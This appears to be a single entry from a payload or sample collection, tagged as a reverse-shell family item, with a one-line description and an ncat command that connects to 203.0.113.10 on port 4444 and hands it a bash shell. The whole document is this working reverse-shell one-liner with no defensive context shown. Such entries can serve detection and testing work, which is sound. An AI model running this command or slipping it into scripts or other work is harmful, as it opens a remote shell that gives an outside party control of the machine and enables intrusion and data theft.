# description: Connects back with ncat and executes bash.
# family: reverse-shell
ncat 203.0.113.10 4444 -e /bin/bash
